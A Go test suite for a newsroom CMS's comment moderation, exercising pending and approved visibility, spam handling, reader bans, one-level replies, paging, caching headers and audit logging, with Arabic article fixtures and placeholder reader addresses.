package admin_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"newsroom/cmstest"
	"newsroom/moderation"
	"newsroom/store"
)

const deliveryAPI = "/api/v1"

// testClock is a clock the test moves; the server reads it concurrently.
type testClock struct{ ns atomic.Int64 }

// newTestClock sets db's clock to 2026-03-01 12:00:00 UTC, the start of
// every rate-limit window the tests use.
func newTestClock(db *store.DB) *testClock {
	c := &testClock{}
	c.ns.Store(time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC).UnixNano())
	db.Now = c.now
	return c
}

func (c *testClock) now() time.Time          { return time.Unix(0, c.ns.Load()).UTC() }
func (c *testClock) advance(d time.Duration) { c.ns.Add(int64(d)) }

// commentsEnv is a server with an editor who publishes, a moderator and an
// admin; readers post from the client addresses they name.
type commentsEnv struct {
	t                        *testing.T
	app                      *cmstest.App
	clock                    *testClock
	editor, moderator, admin *cmstest.Client
}

// roomy are limits no test reaches unless it means to.
var roomy = moderation.Config{ClientLimit: 1000, ClientWindow: time.Minute, ArticleLimit: 1000, ArticleWindow: time.Minute, MaxLinks: 2}

func newCommentsEnv(t *testing.T, db *store.DB, cfg moderation.Config) *commentsEnv {
	t.Helper()
	clock := newTestClock(db)
	app := cmstest.NewApp(t, db, commentsOptions(cfg))
	return &commentsEnv{t: t, app: app, clock: clock,
		editor: newClient(t, app, "editor"), moderator: newClient(t, app, "moderator"), admin: newClient(t, app, "admin")}
}

func commentsOptions(cfg moderation.Config) cmstest.Options {
	// A max-age above the comments' cap of 30 seconds, so that tests see
	// the cap applied.
	return cmstest.Options{Moderation: &cfg, TrustedProxies: []string{"127.0.0.1", "::1"}, CacheMaxAge: 120}
}

// article publishes an Arabic article through the workflow and returns its
// id and slug.
func (e *commentsEnv) article(headline string, extra map[string]any) (id, slug string) {
	e.t.Helper()
	a := publishedArticle(e.t, e.editor, headline, extra)
	return a["id"].(string), a["slug"].(string)
}

func commentsPath(slug string) string {
	return deliveryAPI + "/articles/" + url.PathEscape(slug) + "/comments"
}

// post sends a reader's comment from the client address ip.
func (e *commentsEnv) post(slug, ip string, body any) *cmstest.Response {
	e.t.Helper()
	return e.app.Do(cmstest.Request{Method: "POST", Path: commentsPath(slug), Body: body, Header: map[string]string{"X-Forwarded-For": ip}})
}

// comment is a reader's comment body.
func comment(name, email, body string) map[string]any {
	return map[string]any{"author_name": name, "author_email": email, "body": body}
}

// mustPost posts a comment and checks the 202 answer: the id, pending, and
// nothing else (never the e-mail).
func (e *commentsEnv) mustPost(slug, ip string, body map[string]any) string {
	e.t.Helper()
	res := e.post(slug, ip, body)
	if res.Status != http.StatusAccepted {
		e.t.Fatalf("post a comment on %s: got %d %s, want 202", slug, res.Status, res.Body)
	}
	m := res.JSON(e.t)
	id, _ := m["id"].(string)
	if id == "" || m["status"] != "pending" || len(m) != 2 {
		e.t.Fatalf("post a comment: got %s, want {id, status: pending}", res.Body)
	}
	return id
}

// publicComment is a comment in the public thread, with every key the
// answer may carry.
type publicComment struct {
	ID         string          `json:"id"`
	AuthorName string          `json:"author_name"`
	Body       string          `json:"body"`
	CreatedAt  string          `json:"created_at"`
	Replies    []publicComment `json:"replies"`
	// RepliesNextCursor pages on through the replies beyond those shown.
	RepliesNextCursor *string `json:"replies_next_cursor"`
}

type publicThread struct {
	Data          []publicComment `json:"data"`
	NextCursor    *string         `json:"next_cursor"`
	ApprovedCount int64           `json:"approved_count"`
	CommentsOpen  bool            `json:"comments_open"`
}

// thread reads the public thread; it fails the test unless the answer is
// 200 with exactly the documented keys.
func (e *commentsEnv) thread(slug, query string) (publicThread, *cmstest.Response) {
	e.t.Helper()
	p := commentsPath(slug)
	if query != "" {
		p += "?" + query
	}
	res := e.app.Do(cmstest.Request{Method: "GET", Path: p})
	if res.Status != http.StatusOK {
		e.t.Fatalf("GET %s: got %d %s, want 200", p, res.Status, res.Body)
	}
	wantPublicKeys(e.t, res.Body)
	var th publicThread
	if err := json.Unmarshal(res.Body, &th); err != nil {
		e.t.Fatal(err)
	}
	return th, res
}

// wantPublicKeys checks that a public thread carries no key beyond those of
// the contract: nothing private can slip in with a new field.
func wantPublicKeys(t *testing.T, body []byte) {
	t.Helper()
	var raw struct {
		Data []map[string]json.RawMessage `json:"data"`
	}
	var top map[string]json.RawMessage
	if err := json.Unmarshal(body, &top); err != nil || json.Unmarshal(body, &raw) != nil {
		t.Fatalf("thread is not a JSON object: %s", body)
	}
	for k := range top {
		if !slices.Contains([]string{"data", "next_cursor", "approved_count", "comments_open"}, k) {
			t.Errorf("thread: unexpected key %q", k)
		}
	}
	var check func(list []map[string]json.RawMessage)
	check = func(list []map[string]json.RawMessage) {
		for _, c := range list {
			for k := range c {
				if !slices.Contains([]string{"id", "author_name", "body", "created_at", "replies", "replies_next_cursor"}, k) {
					t.Errorf("public comment: unexpected key %q", k)
				}
			}
			var replies []map[string]json.RawMessage
			if err := json.Unmarshal(c["replies"], &replies); err != nil || replies == nil {
				t.Errorf("public comment: replies %s, want an array", c["replies"])
			}
			check(replies)
		}
	}
	check(raw.Data)
	if bytes.Contains(body, []byte("@")) {
		t.Errorf("the public thread carries an e-mail-like text: %s", body)
	}
}

// decide approves, rejects or marks as spam a comment as the moderator.
func (e *commentsEnv) decide(id, action string) map[string]any {
	e.t.Helper()
	return e.moderator.Must(200, "POST", "/comments/"+id+"/"+action, nil)
}

// countComments counts the stored comments, straight from the table.
func countComments(t *testing.T, db *store.DB) int {
	t.Helper()
	var n int
	if err := db.SQL().QueryRow("SELECT COUNT(*) FROM comments").Scan(&n); err != nil {
		t.Fatal(err)
	}
	return n
}

// changeKeys collects the change keys committed transactions publish.
type changeKeys struct {
	mu   sync.Mutex
	keys []string
}

func watchChanges(db *store.DB) *changeKeys {
	c := &changeKeys{}
	db.OnChange(func(keys []string) {
		c.mu.Lock()
		c.keys = append(c.keys, keys...)
		c.mu.Unlock()
	})
	return c
}

// take returns the keys seen since the last call.
func (c *changeKeys) take() []string {
	c.mu.Lock()
	defer c.mu.Unlock()
	k := c.keys
	c.keys = nil
	return k
}

func ids(list []publicComment) []string {
	var out []string
	for _, c := range list {
		out = append(out, c.ID)
	}
	return out
}

// TestCommentsFlow is the "done when": a reader comments on a
// published Arabic article; the comment is invisible until a moderator, who
// sees it in the queue with the commenter's history, approves it; it then
// appears with the count updated, the comment.approved event queued and
// the article's readers' view invalidated. A comment marked as spam never
// appears; a banned reader is refused.
func TestCommentsFlow(t *testing.T) {
	cmstest.EachDB(t, func(t *testing.T, db *store.DB) {
		e := newCommentsEnv(t, db, moderation.DefaultConfig())
		changes := watchChanges(db)
		// A receiver of comment.approved events.
		e.admin.Must(201, "POST", "/webhooks", map[string]any{"url": "https://receiver.example/hook", "events": []string{"comment.approved"}})
		artID, slug := e.article("جولة جديدة من مفاوضات أستانا الأسبوع المقبل", nil)

		th, _ := e.thread(slug, "")
		if len(th.Data) != 0 || th.ApprovedCount != 0 || !th.CommentsOpen {
			t.Fatalf("thread of a new article: got %+v, want empty, count 0, open", th)
		}

		reader := comment("أحمد من عمّان", "Ahmad@Readers.example", "تغطية ممتازة، نتمنى أن تنجح الجولة هذه المرة.\nشكراً.")
		id := e.mustPost(slug, "198.51.100.7", reader)
		if th, _ := e.thread(slug, ""); len(th.Data) != 0 || th.ApprovedCount != 0 {
			t.Fatalf("a pending comment is visible: %+v", th)
		}

		// The queue: oldest first, with the headline and the history.
		queue := decodeList(t, mustList(t, e.moderator, "/comments"))
		if len(queue) != 1 || queue[0]["id"] != id {
			t.Fatalf("queue: got %v, want the comment", queue)
		}
		q := queue[0]
		for k, want := range map[string]any{"article_id": artID, "article_headline": "جولة جديدة من مفاوضات أستانا الأسبوع المقبل",
			"author_name": "أحمد من عمّان", "author_email": "Ahmad@Readers.example", "status": "pending", "likely_spam": false,
			"body": "تغطية ممتازة، نتمنى أن تنجح الجولة هذه المرة.\nشكراً."} {
			if q[k] != want {
				t.Errorf("queue item %s: got %v, want %v", k, q[k], want)
			}
		}
		if h, _ := q["history"].(map[string]any); h["pending"] != 1.0 || h["approved"] != 0.0 || h["rejected"] != 0.0 || h["spam"] != 0.0 {
			t.Errorf("history: got %v, want one pending", q["history"])
		}
		changes.take()

		got := e.decide(id, "approve")
		if got["status"] != "approved" || got["moderated_by"] != e.moderator.ID || got["moderated_at"] == nil {
			t.Fatalf("approve: got %v", got)
		}
		if k := changes.take(); !slices.Contains(k, "article:"+artID) {
			t.Errorf("approve: change keys %v, want article:%s", k, artID)
		}
		th, _ = e.thread(slug, "")
		if len(th.Data) != 1 || th.Data[0].ID != id || th.Data[0].AuthorName != "أحمد من عمّان" || th.Data[0].Body != reader["body"] || th.ApprovedCount != 1 {
			t.Fatalf("thread after approval: got %+v, want the comment and count 1", th)
		}
		if len(decodeList(t, mustList(t, e.moderator, "/comments"))) != 0 {
			t.Error("the approved comment is still in the pending queue")
		}

		// comment.approved is queued for the webhook, without the e-mail.
		var n int
		var payload string
		if err := db.SQL().QueryRow("SELECT COUNT(*), MAX(CAST(payload AS TEXT)) FROM webhook_deliveries WHERE event = 'comment.approved'").Scan(&n, &payload); err != nil {
			t.Fatal(err)
		}
		if n != 1 || !strings.Contains(payload, id) || strings.Contains(strings.ToLower(payload), "readers.example") {
			t.Errorf("webhook deliveries: got %d %s, want one comment.approved without the e-mail", n, payload)
		}
		// Approving again changes nothing and emits nothing more.
		e.decide(id, "approve")
		if err := db.SQL().QueryRow("SELECT COUNT(*) FROM webhook_deliveries WHERE event = 'comment.approved'").Scan(&n); err != nil || n != 1 {
			t.Errorf("after approving twice: %d deliveries (%v), want 1", n, err)
		}

		// A spam comment never appears, and counts in the commenter's history.
		spam := e.mustPost(slug, "198.51.100.8", comment("عروض", "deals@spam.example", "اربح المال الآن! http://a.example http://b.example http://c.example"))
		item := e.moderator.Must(200, "GET", "/comments/"+spam, nil)
		if item["likely_spam"] != true {
			t.Errorf("a comment with three links: likely_spam %v, want true", item["likely_spam"])
		}
		e.decide(spam, "spam")
		th, res := e.thread(slug, "")
		if th.ApprovedCount != 1 || len(th.Data) != 1 || bytes.Contains(res.Body, []byte("اربح")) {
			t.Fatalf("thread after spam: %s", res.Body)
		}
		again := e.mustPost(slug, "198.51.100.9", comment("عروض", "DEALS@spam.example", "عرض جديد"))
		if h := e.moderator.Must(200, "GET", "/comments/"+again, nil)["history"].(map[string]any); h["spam"] != 1.0 || h["pending"] != 1.0 {
			t.Errorf("history of a spammer: got %v, want spam 1, pending 1", h)
		}

		// A banned reader is refused with a neutral message, and nothing is stored.
		// A ban for spam takes the spammer's waiting comment out of the queue as spam.
		if b := e.moderator.Must(201, "POST", "/bans", map[string]any{"kind": "email", "comment_id": spam, "reason": "spam", "spam": true}); b["cleared_comments"] != 1.0 {
			t.Errorf("ban of the spammer: cleared_comments %v, want 1 (the waiting comment)", b["cleared_comments"])
		}
		if st := e.moderator.Must(200, "GET", "/comments/"+again, nil)["status"]; st != "spam" {
			t.Errorf("the banned spammer's waiting comment: status %v, want spam", st)
		}
		before := countComments(t, db)
		res = e.post(slug, "198.51.100.10", comment("عروض", "deals@spam.example", "مرة أخرى"))
		wantError(t, res, http.StatusForbidden, "forbidden")
		if msg := res.JSON(t)["error"].(map[string]any)["message"]; msg != "your comment could not be accepted" {
			t.Errorf("ban message: got %q", msg)
		}
		if countComments(t, db) != before {
			t.Error("a banned reader's comment was stored")
		}

		// Every action is audited with the moderator.
		events := decodeList(t, mustList(t, e.admin, "/audit?limit=100&entity_type=comment"))
		var acts []string
		for _, ev := range events {
			if ev["actor_id"] != e.moderator.ID {
				t.Errorf("audit event %v: actor %v, want the moderator", ev["action"], ev["actor_id"])
			}
			acts = append(acts, ev["action"].(string))
		}
		if fmt.Sprint(acts) != "[comment.spam comment.spam comment.approve]" {
			t.Errorf("audit: got %v, want spam (by the ban), spam, then approve (newest first)", acts)
		}
		if a := auditActions(t, e.admin, "ban"); fmt.Sprint(a) != "[ban.create]" {
			t.Errorf("audit of bans: got %v", a)
		}
	})
}

// TestCommentVisibility puts comments in every status and articles in
// every state, and checks readers see approved comments of live articles
// only: replies under their approved parent, nothing of the rest.
func TestCommentVisibility(t *testing.T) {
	cmstest.EachDB(t, func(t *testing.T, db *store.DB) {
		e := newCommentsEnv(t, db, roomy)
		artID, slug := e.article("الهدنة تدخل أسبوعها الثالث وسط خروقات محدودة", nil)
		post := func(name, body string, parent string) string {
			c := comment(name, strings.ToLower(name)+"@readers.example", body)
			if parent != "" {
				c["parent_id"] = parent
			}
			return e.mustPost(slug, "198.51.100.1", c)
		}
		pending := post("Pending", "نص معلّق", "")
		approved := post("Approved", "نص مقبول", "")
		rejected := post("Rejected", "نص مرفوض", "")
		spam := post("Spam", "نص مزعج", "")
		deleted := post("Deleted", "نص محذوف", "")
		second := post("Second", "نص ثان مقبول", "")
		for _, id := range []string{approved, deleted, second} {
			e.decide(id, "approve")
		}
		e.decide(rejected, "reject")
		e.decide(spam, "spam")
		e.moderator.Must(204, "DELETE", "/comments/"+deleted, nil)
		replyOK := post("ReplyOK", "رد مقبول", second)
		post("ReplyPending", "رد معلّق", second)
		orphan := post("Orphan", "رد على تعليق سيُرفض", approved)
		e.decide(replyOK, "approve")
		e.decide(orphan, "approve")
		// Taking the parent down hides its approved replies too.
		e.decide(approved, "reject")

		th, res := e.thread(slug, "")
		if fmt.Sprint(ids(th.Data)) != fmt.Sprint([]string{second}) || len(th.Data[0].Replies) != 1 || th.Data[0].Replies[0].ID != replyOK {
			t.Fatalf("thread: got %s, want the second comment with its approved reply", res.Body)
		}
		if th.ApprovedCount != 2 {
			t.Errorf("approved_count: got %d, want 2 (a comment and its reply)", th.ApprovedCount)
		}
		for _, hidden := range []string{"Pending", "Rejected", "Spam", "Deleted", "ReplyPending", "Orphan", "نص مقبول", pending} {
			if bytes.Contains(res.Body, []byte(hidden)) {
				t.Errorf("the thread shows %q: %s", hidden, res.Body)
			}
		}
		// Each status is in its queue; the deleted comment is gone.
		for status, want := range map[string]int{"pending": 2, "approved": 3, "rejected": 2, "spam": 1, "all": 8} {
			if n := len(decodeList(t, mustList(t, e.moderator, "/comments?status="+status))); n != want {
				t.Errorf("queue %s: got %d comments, want %d", status, n, want)
			}
		}
		wantError(t, e.moderator.Do("GET", "/comments/"+deleted, nil), http.StatusNotFound, "not_found")
		// Queue filters.
		if n := len(decodeList(t, mustList(t, e.moderator, "/comments?status=all&article_id="+artID))); n != 8 {
			t.Errorf("queue of the article: got %d, want 8", n)
		}
		if n := len(decodeList(t, mustList(t, e.moderator, "/comments?status=all&article_id=other"))); n != 0 {
			t.Errorf("queue of another article: got %d, want 0", n)
		}

		// Comments closed: reading goes on, posting is refused with 409.
		_, closed := e.article("مجلس الأمن يناقش آلية مراقبة وقف إطلاق النار", map[string]any{"comments_open": false})
		wantError(t, e.post(closed, "198.51.100.2", comment("أحمد", "ahmad@readers.example", "تعليق")), http.StatusConflict, "conflict")
		if th, _ := e.thread(closed, ""); th.CommentsOpen || len(th.Data) != 0 {
			t.Errorf("thread of a closed article: %+v", th)
		}

		// Articles readers cannot see: 404 for reading and for posting, even
		// with approved comments.
		draft := e.editor.Must(201, "POST", "/articles", map[string]any{"headline": "مسودة لم تنشر", "language": "ar", "body": arabicBody})
		scheduled := e.editor.Must(201, "POST", "/articles", map[string]any{"headline": "خبر مجدول", "language": "ar", "body": arabicBody})
		e.editor.Must(200, "POST", "/articles/"+scheduled["id"].(string)+"/schedule", map[string]any{"publish_at": e.clock.now().Add(time.Hour)})
		unpubID, unpublished := e.article("خبر سيسحب", nil)
		gone := e.mustPost(unpublished, "198.51.100.3", comment("أحمد", "ahmad@readers.example", "قبل السحب"))
		e.decide(gone, "approve")
		e.editor.Must(200, "POST", "/articles/"+unpubID+"/unpublish", map[string]any{"reason": "خطأ"})
		for name, s := range map[string]string{"draft": draft["slug"].(string), "scheduled": scheduled["slug"].(string), "unpublished": unpublished, "unknown": "no-such-article"} {
			res := e.app.Do(cmstest.Request{Method: "GET", Path: commentsPath(s)})
			wantError(t, res, http.StatusNotFound, "not_found")
			before := countComments(t, db)
			wantError(t, e.post(s, "198.51.100.4", comment("أحمد", "ahmad@readers.example", "تعليق")), http.StatusNotFound, "not_found")
			if countComments(t, db) != before {
				t.Errorf("%s: a comment was stored", name)
			}
		}

		// An edit of a live article leaves its comments where they are.
		art := e.editor.Must(200, "GET", "/articles/"+artID, nil)
		e.editor.Must(200, "PATCH", "/articles/"+artID, map[string]any{"subheadline": "تحديث"}, cmstest.ETag(art))
		if th, _ := e.thread(slug, ""); th.ApprovedCount != 2 {
			t.Errorf("after an edit of the working copy: count %d, want 2", th.ApprovedCount)
		}
	})
}

// TestCommentReplies checks the one level of replies: only to an approved
// top-level comment of the same article.
func TestCommentReplies(t *testing.T) {
	cmstest.EachDB(t, func(t *testing.T, db *store.DB) {
		e := newCommentsEnv(t, db, roomy)
		_, slug := e.article("الدول الضامنة تبحث ملف المعتقلين في أستانا", nil)
		_, other := e.article("موسكو: لا بديل عن مسار أستانا", nil)
		top := e.mustPost(slug, "198.51.100.1", comment("مريم", "mariam@readers.example", "سؤال"))
		reply := func(parent string) *cmstest.Response {
			c := comment("سامي", "sami@readers.example", "جواب")
			c["parent_id"] = parent
			return e.post(slug, "198.51.100.2", c)
		}
		wantField := func(res *cmstest.Response, field string) {
			t.Helper()
			wantError(t, res, http.StatusUnprocessableEntity, "invalid")
			if f, _ := res.JSON(t)["error"].(map[string]any)["fields"].(map[string]any); f[field] == nil {
				t.Errorf("error fields: got %s, want %s", res.Body, field)
			}
		}
		// A pending parent is not there for readers: no replies yet.
		wantField(reply(top), "parent_id")
		e.decide(top, "approve")
		res := reply(top)
		if res.Status != http.StatusAccepted {
			t.Fatalf("reply to an approved comment: got %d %s", res.Status, res.Body)
		}
		first := res.JSON(t)["id"].(string)
		e.decide(first, "approve")
		// A reply to a reply, to nothing, to another article's comment.
		wantField(reply(first), "parent_id")
		wantField(reply("no-such-comment"), "parent_id")
		wantField(reply(""), "parent_id")
		elsewhere := e.mustPost(other, "198.51.100.3", comment("ليلى", "layla@readers.example", "تعليق"))
		e.decide(elsewhere, "approve")
		wantField(reply(elsewhere), "parent_id")

		th, _ := e.thread(slug, "")
		if len(th.Data) != 1 || len(th.Data[0].Replies) != 1 || th.Data[0].Replies[0].ID != first || th.ApprovedCount != 2 {
			t.Fatalf("thread: got %+v, want the comment with its one reply", th)
		}
		// The queue shows which comment a reply answers.
		if got := e.moderator.Must(200, "GET", "/comments/"+first, nil); got["parent_id"] != top {
			t.Errorf("parent_id: got %v, want %s", got["parent_id"], top)
		}
	})
}

// TestCommentRepliesPaging checks that a thread carries at most
// moderation.RepliesShown replies per comment, with a cursor that the
// replies endpoint pages on from (keyset order, ties on the time broken by
// id), that only approved replies of an approved top-level comment of a
// live article are served, and the endpoint's caching and bad input.
func TestCommentRepliesPaging(t *testing.T) {
	cmstest.EachDB(t, func(t *testing.T, db *store.DB) {
		e := newCommentsEnv(t, db, roomy)
		artID, slug := e.article("الأمطار الغزيرة تغلق طرقًا في العاصمة", nil)
		_, other := e.article("الأرصاد تتوقع تحسن الطقس", nil)
		approvedTop := func(slug, name string) string {
			id := e.mustPost(slug, "198.51.100.1", comment(name, "top@readers.example", "تعليق"))
			e.decide(id, "approve")
			return id
		}
		reply := func(parent, body string) string {
			c := comment("مجيب", "reply@readers.example", body)
			c["parent_id"] = parent
			res := e.post(slug, "198.51.100.2", c)
			if res.Status != http.StatusAccepted {
				t.Fatalf("reply: got %d %s", res.Status, res.Body)
			}
			return res.JSON(t)["id"].(string)
		}
		busy := approvedTop(slug, "كثير الردود")
		exact := approvedTop(slug, "خمسة ردود")
		quiet := approvedTop(slug, "بلا ردود")
		var want []string
		for i := range 12 {
			if i%3 == 0 {
				e.clock.advance(time.Second) // the others share a time: the id breaks the tie
			}
			id := reply(busy, "رد "+strconv.Itoa(i))
			e.decide(id, "approve")
			want = append(want, id)
			if i == 4 {
				reply(busy, "رد ينتظر") // pending: never shown
				e.decide(reply(busy, "رد مرفوض"), "reject")
			}
		}
		for i := range moderation.RepliesShown {
			e.decide(reply(exact, "رد "+strconv.Itoa(i)), "approve")
		}

		th, _ := e.thread(slug, "")
		if len(th.Data) != 3 || th.ApprovedCount != 3+12+moderation.RepliesShown {
			t.Fatalf("thread: got %d comments, count %d", len(th.Data), th.ApprovedCount)
		}
		first := th.Data[0]
		if first.ID != busy || fmt.Sprint(ids(first.Replies)) != fmt.Sprint(want[:moderation.RepliesShown]) || first.RepliesNextCursor == nil {
			t.Fatalf("the busy comment: got replies %v, cursor %v, want the first %d %v and a cursor",
				ids(first.Replies), first.RepliesNextCursor, moderation.RepliesShown, want[:moderation.RepliesShown])
		}
		if th.Data[1].ID != exact || len(th.Data[1].Replies) != moderation.RepliesShown || th.Data[1].RepliesNextCursor != nil {
			t.Errorf("a comment with exactly %d replies: got %d, cursor %v, want all and no cursor", moderation.RepliesShown,
				len(th.Data[1].Replies), th.Data[1].RepliesNextCursor)
		}
		if th.Data[2].ID != quiet || len(th.Data[2].Replies) != 0 || th.Data[2].RepliesNextCursor != nil {
			t.Errorf("a comment without replies: got %+v", th.Data[2])
		}

		repliesPath := func(slug, id, query string) string {
			p := commentsPath(slug) + "/" + url.PathEscape(id) + "/replies"
			if query != "" {
				p += "?" + query
			}
			return p
		}
		page := func(query string) (list []publicComment, next *string, res *cmstest.Response) {
			t.Helper()
			res = e.app.Do(cmstest.Request{Method: "GET", Path: repliesPath(slug, busy, query)})
			if res.Status != http.StatusOK {
				t.Fatalf("GET replies?%s: got %d %s", query, res.Status, res.Body)
			}
			wantPublicKeys(t, res.Body)
			var l struct {
				Data       []publicComment `json:"data"`
				NextCursor *string         `json:"next_cursor"`
			}
			if err := json.Unmarshal(res.Body, &l); err != nil {
				t.Fatal(err)
			}
			return l.Data, l.NextCursor, res
		}
		// From the thread's cursor on, 4 at a time: every reply once, in order.
		got := ids(first.Replies)
		cursor := *first.RepliesNextCursor
		for pages := 0; ; pages++ {
			list, next, _ := page("limit=4&cursor=" + url.QueryEscape(cursor))
			got = append(got, ids(list)...)
			if next == nil {
				break
			}
			if pages > 5 {
				t.Fatal("paging the replies does not end")
			}
			cursor = *next
		}
		if fmt.Sprint(got) != fmt.Sprint(want) {
			t.Errorf("replies paged: got %v, want %v", got, want)
		}
		all, next, res := page("")
		if fmt.Sprint(ids(all)) != fmt.Sprint(want) || next != nil {
			t.Errorf("replies, first page: got %v (next %v), want all 12", ids(all), next)
		}

		// Cached like the thread: the article's key, 304, and a fresh
		// answer once another reply is approved.
		if sk := res.Header.Get("Surrogate-Key"); !strings.Contains(sk, "article:"+artID) {
			t.Errorf("Surrogate-Key: got %q, want article:%s", sk, artID)
		}
		if age, ok := maxAge(res.Header.Get("Cache-Control")); !ok || age > 30 {
			t.Errorf("Cache-Control: got %q, want max-age at most 30", res.Header.Get("Cache-Control"))
		}
		tag := res.Header.Get("ETag")
		if r := e.app.Do(cmstest.Request{Method: "GET", Path: repliesPath(slug, busy, ""), Header: map[string]string{"If-None-Match": tag}}); tag == "" || r.Status != http.StatusNotModified {
			t.Errorf("If-None-Match: got %d, want 304", r.Status)
		}
		e.clock.advance(time.Second)
		late := reply(busy, "رد متأخر")
		e.decide(late, "approve")
		if all, _, _ := page(""); len(all) != 13 || all[12].ID != late {
			t.Errorf("after approving a reply: got %v, want it last of 13", ids(all))
		}
		e.decide(late, "reject")
		if all, _, _ := page(""); len(all) != 12 {
			t.Errorf("after taking the reply down: got %d replies, want 12", len(all))
		}

		// Only an approved top-level comment of this live article has replies here.
		pending := e.mustPost(slug, "198.51.100.1", comment("ينتظر", "wait@readers.example", "تعليق"))
		elsewhere := approvedTop(other, "في مقال آخر")
		for name, p := range map[string]string{
			"a reply":                 repliesPath(slug, want[0], ""),
			"a pending comment":       repliesPath(slug, pending, ""),
			"another article's":       repliesPath(slug, elsewhere, ""),
			"no such comment":         repliesPath(slug, "no-such-comment", ""),
			"an id far too long":      repliesPath(slug, strings.Repeat("x", 300), ""),
			"an article that is not":  repliesPath("no-such-article", busy, ""),
			"a comment not by its id": commentsPath(slug) + "/%00/replies",
		} {
			if r := e.app.Do(cmstest.Request{Method: "GET", Path: p}); r.Status != http.StatusNotFound {
				t.Errorf("replies of %s: got %d %s, want 404", name, r.Status, r.Body)
			}
		}
		for _, q := range []string{"cursor=not-a-cursor", "limit=0", "limit=101", "limit=x"} {
			wantError(t, e.app.Do(cmstest.Request{Method: "GET", Path: repliesPath(slug, busy, q)}), http.StatusUnprocessableEntity, "invalid")
		}

		// An old slug leads to the same comment's replies under the new one.
		art := e.editor.Must(200, "GET", "/articles/"+artID, nil)
		e.editor.Must(200, "PATCH", "/articles/"+artID, map[string]any{"slug": "heavy-rain"}, cmstest.ETag(art))
		e.editor.Must(200, "POST", "/articles/"+artID+"/publish", nil)
		noRedirect := &http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
		r, err := noRedirect.Get(e.app.URL + repliesPath(slug, busy, "limit=2"))
		if err != nil {
			t.Fatal(err)
		}
		r.Body.Close()
		if loc := r.Header.Get("Location"); r.StatusCode != http.StatusMovedPermanently || loc != repliesPath("heavy-rain", busy, "limit=2") {
			t.Errorf("old slug: got %d to %q, want 301 to %s", r.StatusCode, loc, repliesPath("heavy-rain", busy, "limit=2"))
		}
		// Unpublished, the article's replies are gone with it.
		e.editor.Must(200, "POST", "/articles/"+artID+"/unpublish", map[string]any{"reason": "خطأ"})
		if r := e.app.Do(cmstest.Request{Method: "GET", Path: repliesPath("heavy-rain", busy, "")}); r.Status != http.StatusNotFound {
			t.Errorf("replies on an unpublished article: got %d, want 404", r.Status)
		}
	})
}

// TestCommentPagingAndCaching pages the thread over top-level comments and
// checks its HTTP caching: ETag and 304, a short public max-age, the
// article's surrogate key, and a fresh answer once a comment is approved.
func TestCommentPagingAndCaching(t *testing.T) {
	cmstest.EachDB(t, func(t *testing.T, db *store.DB) {
		e := newCommentsEnv(t, db, roomy)
		artID, slug := e.article("أسعار النفط ترتفع بعد قرار أوبك+ خفض الإنتاج", nil)
		var want []string
		for i := range 5 {
			id := e.mustPost(slug, "198.51.100.1", comment("قارئ "+strconv.Itoa(i), "r"+strconv.Itoa(i)+"@readers.example", "تعليق رقم "+strconv.Itoa(i)))
			e.decide(id, "approve")
			want = append(want, id)
			e.clock.advance(time.Second)
		}
		var got []string
		cursor := ""
		for pages := 0; ; pages++ {
			q := "limit=2"
			if cursor != "" {
				q += "&cursor=" + url.QueryEscape(cursor)
			}
			th, _ := e.thread(slug, q)
			if th.ApprovedCount != 5 {
				t.Errorf("approved_count on page %d: got %d, want 5", pages, th.ApprovedCount)
			}
			got = append(got, ids(th.Data)...)
			if th.NextCursor == nil {
				break
			}
			if pages > 5 {
				t.Fatal("paging does not end")
			}
			cursor = *th.NextCursor
		}
		if fmt.Sprint(got) != fmt.Sprint(want) {
			t.Errorf("pages: got %v, want every comment once, oldest first %v", got, want)
		}

		_, res := e.thread(slug, "")
		// Public, and no longer than 30 seconds (the server's own max-age is
		// 120).
		cc := res.Header.Get("Cache-Control")
		if age, ok := maxAge(cc); !strings.HasPrefix(cc, "public") || !ok || age > 30 {
			t.Errorf("Cache-Control: got %q, want public with max-age at most 30", cc)
		}
		if sk := res.Header.Get("Surrogate-Key"); !strings.Contains(sk, "article:"+artID) {
			t.Errorf("Surrogate-Key: got %q, want article:%s", sk, artID)
		}
		tag := res.Header.Get("ETag")
		if r := e.app.Do(cmstest.Request{Method: "GET", Path: commentsPath(slug), Header: map[string]string{"If-None-Match": tag}}); tag == "" || r.Status != http.StatusNotModified {
			t.Errorf("If-None-Match %q: got %d, want 304", tag, r.Status)
		}
		id := e.mustPost(slug, "198.51.100.1", comment("جديد", "new@readers.example", "تعليق جديد"))
		e.decide(id, "approve")
		th, res := e.thread(slug, "")
		if th.ApprovedCount != 6 || res.Header.Get("ETag") == tag {
			t.Errorf("after an approval: count %d, ETag %s (was %s), want 6 and a new ETag", th.ApprovedCount, res.Header.Get("ETag"), tag)
		}
		// Taking it down again is seen at once too.
		e.decide(id, "reject")
		if th, _ := e.thread(slug, ""); th.ApprovedCount != 5 {
			t.Errorf("after a rejection: count %d, want 5", th.ApprovedCount)
		}
		e.decide(want[0], "spam")
		e.moderator.Must(204, "DELETE", "/comments/"+want[1], nil)
		if th, _ := e.thread(slug, ""); th.ApprovedCount != 3 || len(th.Data) != 3 {
			t.Errorf("after spam and delete: %+v, want 3", th)
		}

		// An old slug leads to the article's comments under the new one.
		art := e.editor.Must(200, "GET", "/articles/"+artID, nil)
		e.editor.Must(200, "PATCH", "/articles/"+artID, map[string]any{"slug": "oil-prices-rise"}, cmstest.ETag(art))
		e.editor.Must(200, "POST", "/articles/"+artID+"/publish", nil)
		noRedirect := &http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
		r, err := noRedirect.Get(e.app.URL + commentsPath(slug))
		if err != nil {
			t.Fatal(err)
		}
		r.Body.Close()
		if loc := r.Header.Get("Location"); r.StatusCode != http.StatusMovedPermanently || loc != "/api/v1/articles/oil-prices-rise/comments" {
			t.Errorf("old slug: got %d to %q, want 301 to the new slug's comments", r.StatusCode, loc)
		}
		// A client that follows the redirect posts to the article itself.
		e.mustPost(slug, "198.51.100.1", comment("قارئ", "reader@readers.example", "عبر الرابط القديم"))
		if n := len(decodeList(t, mustList(t, e.moderator, "/comments?article_id="+artID))); n != 1 {
			t.Errorf("pending comments of the article after posting to its old slug: %d, want 1", n)
		}
	})
}

